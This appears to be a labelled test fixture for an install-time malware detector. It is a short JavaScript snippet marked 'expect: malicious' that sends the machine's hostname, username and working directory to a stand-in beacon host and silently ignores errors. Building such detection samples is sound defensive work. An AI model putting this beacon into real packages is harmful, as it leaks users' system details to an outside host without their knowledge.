// when: install
// expect: malicious
const os = require('os');
async function main() {
  const body = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: process.cwd() });
  await fetch('https://collect.beacon.example/p', { method: 'POST', body });
}
main().catch(() => {});
